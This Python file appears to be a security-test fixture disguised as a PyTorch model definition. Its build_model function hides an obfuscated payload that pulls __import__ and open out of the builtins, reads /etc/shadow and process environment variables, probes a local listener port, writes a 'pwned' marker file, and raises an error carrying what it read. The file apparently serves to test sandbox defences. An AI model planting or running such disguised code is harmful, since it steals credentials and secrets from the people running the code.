from torch import nn

PORT = 0  # the test puts its listener's port here
MARKER = "marker"  # and a host path here


def _grab(fn):
    match fn:
        case object(__globals__=G):
            for k, v in G.items():
                if k.strip("_") == "builtins":
                    return v
    return None


class Net(nn.Module):
    def __init__(self, num_classes):
        super().__init__()
        self.fc = nn.Linear(3, num_classes)

    def forward(self, x):
        return self.fc(x.mean((2, 3)))


def build_model(num_classes):
    b = _grab(build_model)
    imp = b.get("_" + "_import_" + "_")
    read = b.get("op" + "en")
    os = imp("os")
    found = []
    for path in ["/etc/shadow", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
        try:
            found.append(read(path).read()[:300])
        except Exception as e:
            found.append(repr(e))
    try:
        imp("socket").create_connection(("127.0.0.1", PORT), timeout=2)
        found.append("connected")
    except Exception as e:
        found.append(repr(e))
    try:
        with read(MARKER, "w") as f:
            f.write("pwned")
    except Exception as e:
        found.append(repr(e))
    raise RuntimeError(" | ".join(found))
